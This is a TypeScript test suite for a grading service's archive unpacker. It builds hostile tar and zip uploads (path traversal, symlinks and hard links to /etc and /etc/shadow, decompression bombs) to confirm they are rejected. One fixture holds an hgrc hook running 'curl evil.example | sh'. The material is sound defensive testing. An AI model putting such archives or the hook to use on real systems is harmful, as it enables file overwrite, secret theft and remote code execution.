import { randomBytes } from "node:crypto";
import { existsSync } from "node:fs";
import { lstat, mkdir, mkdtemp, readdir, readFile, readlink, rm, stat, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { gzipSync } from "node:zlib";
import { create } from "tar";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import {
  asTarItems,
  asZipItems,
  readTree,
  sampleBytesUnder,
  tarBuffer,
  TEST_GO_POLICY,
  writeGzipBomb,
  writeTarGz,
  writeZip,
  type SourceFile,
} from "./archive-fixtures.ts";
import {
  ArchiveRejected,
  DEFAULT_ARCHIVE_LIMITS,
  extractProject,
  type ArchiveLimits,
  type RejectionCode,
} from "./archive.ts";
import { checkProjectLayout } from "./project-layout.ts";

const OPERATOR = fileURLToPath(new URL("../../../operator/", import.meta.url));
const MiB = 1024 * 1024;
const rand = randomBytes(6).toString("hex");
// Where a broken unpacker would write when a hostile entry escapes; none of these may ever exist.
const OUTSIDE = [`/tmp/escape-${rand}`, `/etc/passwd-x-${rand}`];

let parent = "";
let archives = "";
let jobs = "";
let operator: SourceFile[] = [];
let counter = 0;

beforeAll(async () => {
  parent = await mkdtemp(join(tmpdir(), "labgrader-uploads-"));
  archives = join(parent, "archives");
  // Unpacked two levels below the parent, so "../../escape-x" lands right in it.
  jobs = join(parent, "jobs");
  await mkdir(archives);
  await mkdir(jobs);
  // The project's bin/ (controller-gen, put there by `make manifests`) is build output the unpacker drops.
  operator = (await readTree(OPERATOR)).filter((f) => !f.path.startsWith("bin/"));
});

// A test that fails by unpacking what it should have refused must not fail every test after it.
afterEach(async () => {
  for (const left of await readdir(jobs)) await rm(join(jobs, left), { recursive: true, force: true });
});

afterAll(async () => {
  await rm(parent, { recursive: true, force: true });
  for (const path of OUTSIDE) await rm(path, { force: true, recursive: true });
});

const next = (name: string) => ({
  archive: join(archives, `${counter}-${name}`),
  dest: join(jobs, `dest-${counter++}`),
});
const goMod = { path: "go.mod", body: "module github.com/example/x\n" };

async function expectNothingOutside(dest: string): Promise<void> {
  expect(existsSync(dest)).toBe(false);
  expect(await readdir(jobs)).toEqual([]);
  expect((await readdir(parent)).sort()).toEqual(["archives", "jobs"]);
  for (const path of OUTSIDE) expect(existsSync(path)).toBe(false);
}

interface Rejection {
  name: string;
  build: (archive: string) => Promise<unknown>;
  code: RejectionCode;
  status: 400 | 413 | 422;
  limits?: Partial<ArchiveLimits>;
  /** Words the learner must read in the message. */
  says?: string[];
}

const tgz =
  (...items: Parameters<typeof writeTarGz>[1]) =>
  (archive: string) =>
    writeTarGz(archive, [goMod, ...items]);
const zip =
  (items: Parameters<typeof writeZip>[1], renames: Parameters<typeof writeZip>[2] = []) =>
  (archive: string) =>
    writeZip(archive, [{ path: "go.mod", body: goMod.body }, ...items], renames);

const rejections: Rejection[] = [
  { name: "tar path traversal", build: tgz({ path: "../../escape-x", body: "x" }), code: "unsafe_path", status: 400 },
  {
    name: "tar traversal hidden mid-path",
    build: tgz({ path: "cmd/../../../escape-x", body: "x" }),
    code: "unsafe_path",
    status: 400,
  },
  {
    name: "tar absolute path",
    build: tgz({ path: `/tmp/escape-${rand}`, body: "x" }),
    code: "unsafe_path",
    status: 400,
  },
  { name: "tar backslash path", build: tgz({ path: "..\\..\\escape-x", body: "x" }), code: "unsafe_path", status: 400 },
  {
    name: "tar path deeper than maxDepth",
    build: tgz({ path: `${"d/".repeat(40)}f`, body: "x" }),
    code: "unsafe_path",
    status: 400,
  },
  {
    name: "tar duplicate file",
    build: tgz({ path: "a.go", body: "1" }, { path: "a.go", body: "2" }),
    code: "unsafe_path",
    status: 400,
  },
  {
    name: "tar file where a folder was",
    build: tgz({ path: "cmd", body: "1" }, { path: "cmd/main.go", body: "2" }),
    code: "unsafe_path",
    status: 400,
  },
  {
    name: "symlink to /etc, then a file through it",
    build: tgz({ path: "link", type: "SymbolicLink", linkpath: "/etc" }, { path: `link/passwd-x-${rand}`, body: "x" }),
    code: "unsafe_link",
    status: 400,
  },
  {
    name: "relative symlink climbing out, then a file through it",
    build: tgz({ path: "up", type: "SymbolicLink", linkpath: "../../.." }, { path: "up/escape-x", body: "x" }),
    code: "unsafe_link",
    status: 400,
  },
  {
    name: "symlink inside the tree, then a file through it",
    build: tgz(
      { path: "sub/", type: "Directory" },
      { path: "via", type: "SymbolicLink", linkpath: "sub" },
      { path: "via/file.go", body: "x" },
    ),
    code: "unsafe_link",
    status: 400,
  },
  {
    // Lexically "a/b/up/.." is a/b; the kernel resolves up first, to the root, then climbs out.
    name: "symlink chained through another symlink",
    build: tgz(
      { path: "a/b/up", type: "SymbolicLink", linkpath: "../.." },
      { path: "escape", type: "SymbolicLink", linkpath: "a/b/up/.." },
    ),
    code: "unsafe_link",
    status: 400,
  },
  {
    name: "hard link to /etc/shadow",
    build: tgz({ path: "shadow", type: "Link", linkpath: "/etc/shadow" }),
    code: "unsafe_link",
    status: 400,
  },
  {
    name: "hard link to a file not yet extracted",
    build: tgz({ path: "a", type: "Link", linkpath: "b" }, { path: "b", body: "x" }),
    code: "unsafe_link",
    status: 400,
  },
  {
    name: "character device",
    build: tgz({ path: "null", type: "CharacterDevice" }),
    code: "unsupported_entry",
    status: 400,
  },
  { name: "fifo", build: tgz({ path: "pipe", type: "FIFO" }), code: "unsupported_entry", status: 400 },
  {
    name: "single file over maxFileBytes",
    build: tgz({ path: "big.bin", body: Buffer.alloc(4096, 7) }),
    limits: { maxFileBytes: 1024 },
    code: "too_large",
    status: 413,
  },
  {
    name: "total over maxTotalBytes",
    build: tgz({ path: "a", body: Buffer.alloc(3000, 1) }, { path: "b", body: Buffer.alloc(3000, 2) }),
    limits: { maxTotalBytes: 5000 },
    code: "too_large",
    status: 413,
  },
  {
    name: "archive over maxArchiveBytes",
    build: tgz({ path: "a", body: randomBytes(4096) }),
    limits: { maxArchiveBytes: 1024 },
    code: "too_large",
    status: 413,
  },
  {
    name: "too many entries",
    build: tgz(...Array.from({ length: 11 }, (_, i) => ({ path: `f${i}.go`, body: "x" }))),
    limits: { maxEntries: 10 },
    code: "too_many_entries",
    status: 413,
  },
  {
    name: "gzip bomb under the size limits trips the ratio",
    build: (archive) => writeGzipBomb(archive, 4, 16 * MiB),
    limits: { maxTotalBytes: 1024 * MiB, maxFileBytes: 1024 * MiB },
    code: "ratio_exceeded",
    status: 413,
  },
  {
    name: "truncated gzip",
    build: async (archive) => {
      const whole = gzipSync(tarBuffer(asTarItems(operator)));
      await writeFile(archive, whole.subarray(0, whole.length / 2));
    },
    code: "not_an_archive",
    status: 400,
  },
  {
    name: "random bytes",
    build: (archive) => writeFile(archive, Buffer.concat([Buffer.from([0]), randomBytes(4096)])),
    code: "not_an_archive",
    status: 400,
  },
  {
    name: "gzip magic then garbage",
    build: (archive) => writeFile(archive, Buffer.concat([Buffer.from([0x1f, 0x8b]), randomBytes(4096)])),
    code: "not_an_archive",
    status: 400,
  },
  {
    name: "gzip of something that is not tar",
    build: (archive) => writeFile(archive, gzipSync("module x\n".repeat(100))),
    code: "not_an_archive",
    status: 400,
  },
  {
    name: "uncompressed tar",
    build: (archive) => writeFile(archive, tarBuffer([goMod])),
    code: "not_an_archive",
    status: 400,
  },
  {
    name: "tar with a damaged second header",
    build: (archive) => {
      const tar = tarBuffer([goMod, { path: "b.go", body: "x" }]);
      tar.writeUInt8(tar.readUInt8(1024 + 10) ^ 0xff, 1024 + 10);
      return writeFile(archive, gzipSync(tar));
    },
    code: "not_an_archive",
    status: 400,
  },
  { name: "empty file", build: (archive) => writeFile(archive, ""), code: "not_an_archive", status: 400 },
  {
    name: "zip with .. names",
    build: zip([{ path: "QQ/QQ/escape-x", body: "x" }], [["QQ/QQ/", "../../"]]),
    code: "unsafe_path",
    status: 400,
  },
  {
    name: "zip with an absolute name",
    build: zip([{ path: `Qtmp/escape-${rand}`, body: "x" }], [["Qtmp/", "/tmp/"]]),
    code: "unsafe_path",
    status: 400,
  },
  {
    name: "zip with backslash traversal",
    build: zip([{ path: "QQ_QQ_escape-x", body: "x" }], [["QQ_QQ_", "..\\..\\"]]),
    code: "unsafe_path",
    status: 400,
  },
  {
    name: "zip symlink to /etc, then a file through it",
    build: zip([
      { path: "link", body: "/etc", mode: 0o120777 },
      { path: `link/passwd-x-${rand}`, body: "x" },
    ]),
    code: "unsafe_link",
    status: 400,
  },
  { name: "zip fifo", build: zip([{ path: "pipe", mode: 0o010644 }]), code: "unsupported_entry", status: 400 },
  {
    // 30 MiB of zeros, under every size limit, in about 30 KiB.
    name: "zip bomb (high ratio)",
    build: zip(Array.from({ length: 2 }, (_, i) => ({ path: `zeros-${i}.bin`, body: Buffer.alloc(15 * MiB) }))),
    code: "ratio_exceeded",
    status: 413,
  },
  {
    name: "zip with too many entries",
    build: zip(Array.from({ length: 20 }, (_, i) => ({ path: `f${i}.go`, body: "x" }))),
    limits: { maxEntries: 2 },
    code: "too_many_entries",
    status: 413,
  },
  {
    name: "truncated zip",
    build: async (archive) => {
      await writeZip(archive, asZipItems(operator));
      const whole = await readFile(archive);
      await writeFile(archive, whole.subarray(0, whole.length - 200));
    },
    code: "not_an_archive",
    status: 400,
  },
  {
    name: "tar with go.work",
    build: tgz({ path: "go.work", body: "go 1.26.0\nuse /work/main/operator\n" }),
    code: "go_workspace",
    status: 422,
    says: ['"go.work"', "workspaces are not graded", "build on its own"],
  },
  {
    name: "tar with go.work.sum deep inside",
    build: tgz({ path: "hack/tools/go.work.sum", body: "" }),
    code: "go_workspace",
    status: 422,
    says: ['"hack/tools/go.work.sum"'],
  },
  {
    name: "tar with a go.work symlink",
    build: tgz({ path: "x.work", body: "use ." }, { path: "go.work", type: "SymbolicLink", linkpath: "x.work" }),
    code: "go_workspace",
    status: 422,
    says: ['"go.work"'],
  },
  {
    // The go command looks for go.work above the module too: beside the folder that wraps the project.
    name: "zip with go.work beside the project's folder",
    build: (archive) =>
      writeZip(archive, [
        ...asZipItems(operator, "postgres-operator/"),
        { path: "go.work", body: "use ./postgres-operator\n" },
      ]),
    code: "go_workspace",
    status: 422,
    says: ['"go.work"', "workspaces are not graded"],
  },
  {
    name: "zip magic then garbage",
    build: (archive) => writeFile(archive, Buffer.concat([Buffer.from("PK\x03\x04"), randomBytes(4096)])),
    code: "not_an_archive",
    status: 400,
  },
];

describe("extractProject refuses hostile or broken uploads", () => {
  it.each(rejections)("$name → $code", async ({ name, build, code, status, limits, says }) => {
    const { archive, dest } = next(name.replace(/\W+/g, "-"));
    await build(archive);
    const error = await extractProject(archive, dest, { ...DEFAULT_ARCHIVE_LIMITS, ...limits }).catch(
      (e: unknown) => e,
    );
    expect(error).toBeInstanceOf(ArchiveRejected);
    expect(error).toMatchObject({ code, status });
    expect((error as Error).message.length).toBeGreaterThan(20);
    for (const words of says ?? []) expect((error as Error).message).toContain(words);
    await expectNothingOutside(dest);
  });
});

describe("extractProject stops a compression bomb early", () => {
  it("1 GiB of zeros in ~1 MiB of .tar.gz is refused in moments, never writing past the total limit", async () => {
    const { archive, dest } = next("gzip-bomb.tar.gz");
    await writeGzipBomb(archive, 64, 16 * MiB);
    expect((await stat(archive)).size).toBeLessThan(2 * MiB);
    const sampler = sampleBytesUnder(dest);
    const started = performance.now();
    const error = await extractProject(archive, dest).catch((e: unknown) => e);
    const elapsed = performance.now() - started;
    const { max, samples } = sampler.stop();
    // A maximal deflate bomb reaches the ratio budget (100 × ~1 MiB) and the 100 MiB total
    // together; which one speaks first depends on a few bytes of gzip framing.
    expect(error).toBeInstanceOf(ArchiveRejected);
    expect(["ratio_exceeded", "too_large"]).toContain((error as ArchiveRejected).code);
    expect((error as ArchiveRejected).status).toBe(413);
    expect(elapsed).toBeLessThan(5000);
    expect(samples).toBeGreaterThan(0);
    expect(max).toBeLessThanOrEqual(DEFAULT_ARCHIVE_LIMITS.maxTotalBytes);
    await expectNothingOutside(dest);
  });
});

const MACOS_AND_TOOLING_JUNK = (top: string) => [
  { path: `__MACOSX/${top}._go.mod`, body: "resource fork" },
  { path: `${top}.DS_Store`, body: "finder" },
  { path: `${top}cmd/._main.go`, body: "resource fork" },
  { path: `${top}.git/config`, body: "[core]" },
  { path: `${top}bin/controller-gen-v0.17.2`, body: randomBytes(2048), mode: 0o755 },
];
const junkSymlink = (top: string) => ({
  path: `${top}bin/controller-gen`,
  target: `/home/me/postgres-operator/${top}bin/controller-gen-v0.17.2`,
});

interface Acceptance {
  name: string;
  build: (archive: string) => Promise<unknown>;
  format: "tar.gz" | "zip";
  wrapper: string;
}

const accepted: Acceptance[] = [
  {
    name: "tar.gz of the reference operator",
    build: (file) => create({ gzip: true, file, cwd: OPERATOR, portable: true }, ["."]),
    format: "tar.gz",
    wrapper: "",
  },
  {
    name: "tar.gz wrapped in one top folder",
    build: (file) => create({ gzip: true, file, cwd: join(OPERATOR, ".."), portable: true }, ["operator"]),
    format: "tar.gz",
    wrapper: "operator",
  },
  {
    name: "zip of the reference operator",
    build: (file) => writeZip(file, asZipItems(operator)),
    format: "zip",
    wrapper: "",
  },
  {
    name: "zip wrapped in one top folder, with macOS and tooling junk",
    build: (file) => {
      const link = junkSymlink("postgres-operator/");
      const junk = MACOS_AND_TOOLING_JUNK("postgres-operator/").map((j) => ({
        ...j,
        mode: 0o100000 | (j.mode ?? 0o644),
      }));
      return writeZip(file, [
        ...asZipItems(operator, "postgres-operator/"),
        ...junk,
        { path: link.path, body: link.target, mode: 0o120777 },
      ]);
    },
    format: "zip",
    wrapper: "postgres-operator",
  },
  {
    name: "tar.gz with macOS and tooling junk",
    build: (file) => {
      const link = junkSymlink("");
      return writeTarGz(file, [
        ...asTarItems(operator),
        ...MACOS_AND_TOOLING_JUNK(""),
        { path: link.path, type: "SymbolicLink", linkpath: link.target },
      ]);
    },
    format: "tar.gz",
    wrapper: "",
  },
];

describe("extractProject unpacks a learner's project", () => {
  it.each(accepted)("$name", async ({ name, build, format, wrapper }) => {
    const { archive, dest } = next(name.replace(/\W+/g, "-"));
    await build(archive);
    const result = await extractProject(archive, dest);
    expect(result).toEqual({
      dir: join(dest, wrapper),
      files: operator.length,
      bytes: operator.reduce((n, f) => n + f.body.length, 0),
      format,
    });
    expect(await checkProjectLayout(result.dir, TEST_GO_POLICY)).toEqual({
      module: "github.com/example/postgres-operator",
    });
    expect(await readFile(join(result.dir, "cmd/main.go"))).toEqual(await readFile(join(OPERATOR, "cmd/main.go")));
    expect((await stat(dest)).mode & 0o777).toBe(0o700);
    expect((await stat(join(result.dir, "go.mod"))).mode & 0o7777).toBe(0o644);
    expect((await stat(join(result.dir, "cmd"))).mode & 0o7777).toBe(0o755);
    const names = (await readdir(dest, { recursive: true })).map((p) => p.split("/"));
    expect(
      names.filter((parts) =>
        parts.some((p) => p === "__MACOSX" || p === ".git" || p === "bin" || p === ".DS_Store" || p.startsWith("._")),
      ),
    ).toEqual([]);
    await rm(dest, { recursive: true });
  });

  // With -buildvcs the go command runs the VCS tool in the project; .hg/hgrc hooks then run as the builder.
  const VCS_NAMES = [".git", ".hg", ".svn", ".bzr", "_FOSSIL_", ".fslckout"];
  const vcsMetadata = (top: string) => [
    { path: `${top}.hg/hgrc`, body: "[hooks]\npre-identify = curl evil.example | sh\n" },
    { path: `${top}.hg/store/00changelog.i`, body: "hg" },
    { path: `${top}.svn/wc.db`, body: "svn" },
    { path: `${top}.bzr/branch-format`, body: "bzr" },
    { path: `${top}_FOSSIL_`, body: "fossil" },
    { path: `${top}api/.fslckout`, body: "fossil" },
    { path: `${top}internal/.git`, body: "gitdir: /work/main/.git\n" },
    { path: `${top}internal/controller/.hg/hgrc`, body: "[hooks]\n" },
  ];
  it.each([
    {
      format: "tar.gz",
      wrapper: "",
      build: (file: string) =>
        writeTarGz(file, [{ path: ".svn/", type: "Directory" }, ...asTarItems(operator), ...vcsMetadata("")]),
    },
    {
      format: "zip",
      wrapper: "postgres-operator",
      build: (file: string) =>
        writeZip(file, [
          { path: "postgres-operator/.hg/", directory: true },
          ...asZipItems(operator, "postgres-operator/"),
          ...vcsMetadata("postgres-operator/"),
          { path: "postgres-operator/.bzr/link", body: "/etc", mode: 0o120777 },
        ]),
    },
  ])("drops version-control metadata, files and folders, from a $format upload", async ({ format, wrapper, build }) => {
    const { archive, dest } = next(`vcs.${format}`);
    await build(archive);
    const result = await extractProject(archive, dest);
    expect(result).toMatchObject({
      dir: join(dest, wrapper),
      files: operator.length,
      bytes: operator.reduce((n, f) => n + f.body.length, 0),
    });
    const kept = (await readdir(dest, { recursive: true })).filter((path) =>
      path.split("/").some((part) => VCS_NAMES.includes(part)),
    );
    expect(kept).toEqual([]);
    expect(await checkProjectLayout(result.dir, TEST_GO_POLICY)).toEqual({
      module: "github.com/example/postgres-operator",
    });
    await rm(dest, { recursive: true });
  });

  it("unpacks the reported attack (the reference's own files, its module replaced by path) but refuses it as a project", async () => {
    const { archive, dest } = next("attack.tar.gz");
    const goMod = [
      "module github.com/example/postgres-operator/x",
      "",
      "go 1.26.0",
      "",
      "require github.com/example/postgres-operator v0.0.0",
      "",
      "replace github.com/example/postgres-operator => /work/main/operator",
      "",
    ].join("\n");
    const reference = operator.filter((f) => f.path === "cmd/main.go" || f.path.startsWith("config/"));
    await writeTarGz(archive, [{ path: "go.mod", body: goMod }, ...asTarItems(reference)]);
    const result = await extractProject(archive, dest);
    const error = await checkProjectLayout(result.dir, TEST_GO_POLICY).catch((e: unknown) => e);
    expect(error).toMatchObject({ code: "local_replace", status: 422 });
    expect((error as Error).message).toContain("go.mod line 7 replaces a module with a folder outside the project");
    await rm(dest, { recursive: true });
  });

  it("keeps symlinks that stay inside, drops dangling ones, copies hard links, and drops setuid", async () => {
    const { archive, dest } = next("links.tar.gz");
    await writeTarGz(archive, [
      goMod,
      { path: "README.md", body: "# project\n" },
      { path: "docs/README.md", type: "SymbolicLink", linkpath: "../README.md" },
      { path: "docs/copy.md", type: "Link", linkpath: "README.md" },
      { path: "hack/run.sh", body: "#!/bin/sh\n", mode: 0o4755 },
      { path: "secret.txt", body: "s", mode: 0o600 },
      { path: ".#main.go", type: "SymbolicLink", linkpath: "me@laptop.4242:1700000000" },
      { path: "a/b/up", type: "SymbolicLink", linkpath: "../.." },
      { path: "via-up", type: "SymbolicLink", linkpath: "a/b/up/../escape-x" },
    ]);
    const result = await extractProject(archive, dest);
    expect(result).toMatchObject({ dir: dest, files: 5 });
    expect((await lstat(join(dest, "docs/README.md"))).isSymbolicLink()).toBe(true);
    expect(await readlink(join(dest, "docs/README.md"))).toBe("../README.md");
    expect(await readFile(join(dest, "docs/copy.md"), "utf8")).toBe("# project\n");
    expect((await stat(join(dest, "docs/copy.md"))).ino).not.toBe((await stat(join(dest, "README.md"))).ino);
    expect((await stat(join(dest, "hack/run.sh"))).mode & 0o7777).toBe(0o755);
    expect((await stat(join(dest, "secret.txt"))).mode & 0o7777).toBe(0o644);
    // Links to nothing are dropped: an editor's lock file, or one that would only escape once its target exists.
    expect(existsSync(join(dest, ".#main.go"))).toBe(false);
    expect(await readlink(join(dest, "a/b/up"))).toBe("../..");
    expect(await lstat(join(dest, "via-up")).catch(() => undefined)).toBeUndefined();
    await rm(dest, { recursive: true });
  });

  it.each([
    { name: "without go.mod", drop: "go.mod", mentions: "go.mod" },
    { name: "without cmd/main.go", drop: "cmd/main.go", mentions: "package main" },
  ])("unpacks a project $name, which checkProjectLayout then refuses (422)", async ({ name, drop, mentions }) => {
    const { archive, dest } = next(name.replace(/\W+/g, "-"));
    await writeZip(
      archive,
      asZipItems(
        operator.filter((f) => f.path !== drop),
        "postgres-operator/",
      ),
    );
    const result = await extractProject(archive, dest);
    const error = await checkProjectLayout(result.dir, TEST_GO_POLICY).catch((e: unknown) => e);
    expect(error).toMatchObject({ code: "not_a_project", status: 422 });
    expect((error as Error).message).toContain(mentions);
  });

  it("accepts an existing empty destination but never touches a non-empty one", async () => {
    const { archive, dest } = next("dest.tar.gz");
    await writeTarGz(archive, [goMod]);
    await mkdir(dest);
    await expect(extractProject(archive, dest)).resolves.toMatchObject({ dir: dest, files: 1 });
    const error = await extractProject(archive, dest).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(Error);
    expect(error).not.toBeInstanceOf(ArchiveRejected);
    expect(await readFile(join(dest, "go.mod"), "utf8")).toBe(goMod.body);
    await rm(dest, { recursive: true });
  });
});
